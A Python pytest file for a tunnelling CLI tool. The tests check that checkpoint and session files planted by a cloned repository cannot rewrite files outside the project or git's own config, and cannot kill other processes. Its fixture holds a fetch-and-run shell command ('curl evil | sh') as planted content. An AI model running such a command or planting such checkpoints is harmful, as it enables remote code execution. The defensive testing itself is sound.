"""What a repository brings along is not believed; what this user did is known from elsewhere."""

from __future__ import annotations

import base64
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.program import QUICK_TUNNEL, SOURCE, Shop, make_shop, run, tunnelling
from twitter_setup.state.journal import digest

PLANTED = b"curl evil | sh\n"


@pytest.fixture
def shop(tmp_path: Path) -> Shop:
    return make_shop(tmp_path / "cafe")


def plant(shop: Shop, victim: Path, *, as_named: str = "", ending: str = ".pending.json") -> Path:
    """A pending checkpoint, as a cloned repository could hold one, that would rewrite `victim`."""
    line = base64.b64encode(victim.read_bytes().rstrip()).decode()
    evil = base64.b64encode(PLANTED.rstrip()).decode()
    step = {"before": digest(PLANTED), "after": digest(b"never"), "patches": []}
    record = {
        "path": as_named or str(victim),
        "steps": [{**step, "hunks": [{"old": [evil], "new": [line]}]}],
    }
    checkpoint = {"version": 1, "number": 1, "kind": "passing", "created": "x", "files": [record]}
    folder = shop.state / "checkpoints"
    folder.mkdir(parents=True)
    path = folder / f"0001-passing{ending}"
    path.write_text(json.dumps(checkpoint))
    return path


@pytest.mark.parametrize("words", [["undo"], [*QUICK_TUNNEL]])
def test_a_checkpoint_that_names_a_file_outside_is_refused(
    shop: Shop, tmp_path: Path, words: list[str]
) -> None:
    victim = tmp_path / "bashrc"
    victim.write_bytes(b"export PATH\n")
    plant(shop, victim)

    done = run(*words, "--json", cwd=shop.root)

    assert (done.code, done.error["code"]) == (1, "checkpoint_broken")
    assert str(victim) in done.error["message"]
    assert victim.read_bytes() == b"export PATH\n"


@pytest.mark.parametrize("named", ["relative", "whole", "through a link", "in capitals"])
@pytest.mark.parametrize("words", [["verify", "project"], ["urls"], ["undo"]])
def test_a_checkpoint_that_names_a_file_of_git_s_own_is_refused(
    shop: Shop, words: list[str], named: str
) -> None:
    """git would run what that file names, at the next `git status`."""
    config = shop.root / ".git" / "config"
    config.write_bytes(b"[core]\n")
    link = shop.backend / ".env.local"
    link.symlink_to(config)
    (shop.root / ".GIT").mkdir()
    names = {
        "relative": ".git/config",
        "whole": str(config),
        "through a link": str(link),
        "in capitals": str(shop.root / ".GIT" / "config"),
    }
    plant(shop, config, as_named=names[named])

    done = run(*words, "--json", cwd=shop.root)

    assert (done.code, done.error["code"]) == (1, "checkpoint_broken")
    assert names[named] in done.error["message"]
    assert config.read_bytes() == b"[core]\n"


@pytest.mark.parametrize("ending", [".json", ".pending.json"])
@pytest.mark.parametrize("mark", [None, "", "0" * 64, 1])
def test_a_checkpoint_without_the_user_s_mark_is_left_alone_and_said(
    shop: Shop, mark: object, ending: str
) -> None:
    before = shop.config.read_bytes()
    path = plant(shop, shop.config, ending=ending)
    if mark is not None:
        path.write_text(json.dumps({**json.loads(path.read_text()), "mark": mark}))

    done = run("undo", "--all", "--json", cwd=shop.root)

    assert done.code == 1, "something may have had to be put back"
    ((kept),) = done.json["data"]["kept"]
    assert kept["path"] == str(shop.config)
    assert f"the checkpoint {path} has no mark of yours" in kept["reason"]
    assert shop.config.read_bytes() == before
    assert path.exists()


def test_commands_go_on_beside_a_checkpoint_that_is_not_the_user_s(shop: Shop) -> None:
    before = shop.files()
    plant(shop, shop.config)

    sheet = run("urls", "--url", "https://a.example.com", cwd=shop.root)
    tunnel = run(*QUICK_TUNNEL, cwd=shop.root)

    for done in (sheet, tunnel):
        assert done.code == 0
        assert f"{shop.config} was left as it is: the checkpoint" in done.err
    run("undo", "--all", cwd=shop.root)
    assert shop.files() == before, "the tunnel's own checkpoint is undone"


def test_a_checkpoint_that_was_changed_after_it_was_written_is_left_alone(shop: Shop) -> None:
    run(*QUICK_TUNNEL, cwd=shop.root)
    changed = shop.files()
    for path in (shop.state / "checkpoints").iterdir():
        path.write_text(json.dumps({**json.loads(path.read_text()), "created": "y"}))

    done = run("undo", "--all", "--json", cwd=shop.root)

    assert (done.code, done.json["data"]["restored"]) == (1, [])
    assert shop.files() == changed


def test_a_new_session_does_not_take_over_a_checkpoint_that_is_not_the_user_s(shop: Shop) -> None:
    path = plant(shop, shop.config, ending=".json")
    content = path.read_bytes()

    run(*QUICK_TUNNEL, cwd=shop.root)

    assert path.read_bytes() == content
    assert len(list((shop.state / "checkpoints").iterdir())) == 3


def test_without_a_place_for_a_key_what_was_written_is_put_back(
    shop: Shop, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", "/dev/null/state")
    before = shop.files()
    run(*QUICK_TUNNEL, cwd=shop.root)
    assert shop.files() != before

    done = run("undo", "--all", "--json", cwd=shop.root)

    assert (done.code, done.json["data"]["kept"]) == (0, [])
    assert shop.files() == before


@pytest.mark.parametrize("name", ["Makefile", ".envrc", "src/server.js", ".husky/pre-commit"])
def test_without_a_place_for_a_key_only_files_that_sessions_change_are_put_back(
    shop: Shop, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", "/dev/null/state")
    victim = shop.root / name
    victim.parent.mkdir(exist_ok=True)
    victim.write_bytes(b"all:\n")
    plant(shop, victim)

    done = run("undo", "--json", cwd=shop.root)

    assert (done.code, [one["path"] for one in done.json["data"]["kept"]]) == (1, [str(victim)])
    assert victim.read_bytes() == b"all:\n"


def test_a_front_end_elsewhere_is_undone_since_the_user_s_own_list_knows_it(
    tmp_path: Path,
) -> None:
    shop = make_shop(tmp_path / "cafe", with_frontend=False)
    other = make_shop(tmp_path / "elsewhere").frontend
    before = (other / ".env").read_bytes()
    words = [
        "--two-origins",
        "--url",
        "https://a.example.com",
        "--yes",
        "--env-var",
        "VITE_BACKEND_URL",
    ]
    assert run("tunnel", *words, "--frontend", other, cwd=shop.root).code == 0
    assert b"a.example.com" in (other / ".env").read_bytes()

    done = run("undo", "--json", cwd=shop.root)

    assert done.code == 0
    assert (other / ".env").read_bytes() == before


def test_a_link_that_leads_out_is_said(shop: Shop, tmp_path: Path) -> None:
    real = tmp_path / "shared.env"
    real.write_bytes(shop.env.read_bytes())
    shop.env.unlink()
    shop.env.symlink_to(real)

    done = run(*QUICK_TUNNEL, cwd=shop.root)

    assert f"the file that is changed is {real}" in done.err


def test_links_in_a_folder_of_ours_that_a_repository_brought_are_not_followed(
    shop: Shop, tmp_path: Path
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    profile = outside / "profile"
    profile.write_bytes(b"export PATH\n")
    shop.state.mkdir()
    for name in ("session.json", "last.json", "answers.json", "gateway.log", ".gitignore"):
        (shop.state / name).symlink_to(profile)
    for name in ("checkpoints", "caddy"):
        (shop.state / name).symlink_to(outside)

    words = QUICK_TUNNEL
    assert run(*words, cwd=shop.root).code == 0

    assert profile.read_bytes() == b"export PATH\n"
    assert list(outside.iterdir()) == [profile]
    assert (shop.state / ".gitignore").read_bytes() == b"*\n"


def test_a_folder_of_ours_that_is_a_link_is_refused(shop: Shop, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    shop.state.symlink_to(outside)

    words = (*QUICK_TUNNEL, "--json")
    done = run(*words, cwd=shop.root)

    assert (done.code, done.error["code"]) == (1, "not_writable")
    assert "it is a link" in done.error["message"]
    assert list(outside.iterdir()) == []


def test_a_gitignore_that_a_repository_brought_cannot_have_our_secrets_committed(
    shop: Shop,
) -> None:
    shop.state.mkdir()
    (shop.state / ".gitignore").write_text("!*\n")

    run(*QUICK_TUNNEL, cwd=shop.root)

    assert (shop.state / ".gitignore").read_bytes() == b"*\n"


def test_a_session_file_cannot_make_us_end_a_process_with_another_configuration(
    shop: Shop,
) -> None:
    run(*QUICK_TUNNEL, cwd=shop.root)
    marker = "/somebody/else.yml"
    other = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)", marker])
    session = shop.state / "session.json"
    data = json.loads(session.read_text())
    session.write_text(json.dumps({**data, "agent_pid": other.pid, "agent_config": marker}))
    try:
        assert run("undo", cwd=shop.root).code == 0
        assert other.poll() is None
    finally:
        other.kill()
        other.wait()


def test_a_broken_session_does_not_keep_undo_from_its_work(shop: Shop) -> None:
    before = shop.env.read_bytes()
    run(*QUICK_TUNNEL, cwd=shop.root)
    (shop.state / "session.json").write_text('{"pid": 1')

    done = run("undo", cwd=shop.root)

    assert done.code == 0
    assert shop.env.read_bytes() == before


def test_undo_and_status_are_about_the_back_end_that_one_stands_in(tmp_path: Path) -> None:
    one, two = make_shop(tmp_path / "apps" / "a"), make_shop(tmp_path / "apps" / "b")
    (tmp_path / ".git").mkdir()
    run(*QUICK_TUNNEL, cwd=one.backend)
    changed = one.env.read_bytes()

    assert run("status", "--json", cwd=two.backend).json["data"]["changes"] == []
    assert run("undo", "--json", cwd=two.backend).json["data"]["restored"] == []

    assert one.env.read_bytes() == changed


@pytest.mark.parametrize("command", ["undo", "status", "urls"])
def test_a_mistyped_back_end_is_no_success(shop: Shop, command: str) -> None:
    done = run(command, "--backend", "/nowhere/at/all", "--json", cwd=shop.root)

    assert (done.code, done.error["code"]) == (1, "no_project")


def test_a_home_that_cannot_be_used_stops_nothing(
    shop: Shop, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", "/dev/null")
    monkeypatch.setenv("XDG_STATE_HOME", "/dev/null/state")

    assert run(*QUICK_TUNNEL, cwd=shop.root).code == 0
    assert run("undo", cwd=shop.root).code == 0


def test_a_flag_wins_over_the_other_one_s_variable(
    shop: Shop, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("NGROK_DOMAIN", "foo.ngrok.app")

    done = run(
        "tunnel",
        "--two-origins",
        "--url",
        "https://a.example.com",
        "--dry-run",
        "--json",
        cwd=shop.root,
    )

    assert done.code == 0
    assert "https://a.example.com" in done.out


def test_after_kill_9_urls_puts_back_first_and_calls_the_session_by_its_name(shop: Shop) -> None:
    before = shop.env.read_bytes()
    run(*QUICK_TUNNEL, cwd=shop.root)
    session = shop.state / "session.json"
    session.write_text(session.read_text().replace('"kept": true', '"kept": false'))

    done = run("urls", cwd=shop.root)

    assert "ended from outside" in done.err
    assert "Of last time" in done.out
    assert shop.env.read_bytes() == before


def test_a_path_that_is_not_utf8_is_no_bug(tmp_path: Path) -> None:
    folder = Path(os.fsdecode(os.fsencode(tmp_path) + b"/caf\xe9"))
    shop = make_shop(folder)
    before = shop.env.read_bytes()

    done = run(
        *QUICK_TUNNEL,
        "--json",
        cwd=shop.root,
    )

    assert done.code == 0
    assert run("undo", cwd=shop.root).code == 0
    assert shop.env.read_bytes() == before


def test_nohup_holds(shop: Shop, tmp_path: Path) -> None:
    from tests.world import agent

    env = {
        "PYNGROK_NGROK_PATH": str(agent.install_agent(tmp_path / "bin")),
        "NGROK_AUTHTOKEN": "2abcDEF_ghijKLMN0123456789",
        "STANDIN_STATE": str(tmp_path / "ngrok"),
        "PYTHONPATH": str(SOURCE),
    }
    former = signal.signal(signal.SIGHUP, signal.SIG_IGN)
    try:
        with tunnelling(cwd=shop.root, env=env) as tunnel:
            tunnel.event("ready")
            tunnel.process.send_signal(signal.SIGHUP)
            time.sleep(0.6)
            assert tunnel.process.poll() is None
            assert tunnel.stop() == 0
    finally:
        signal.signal(signal.SIGHUP, former)
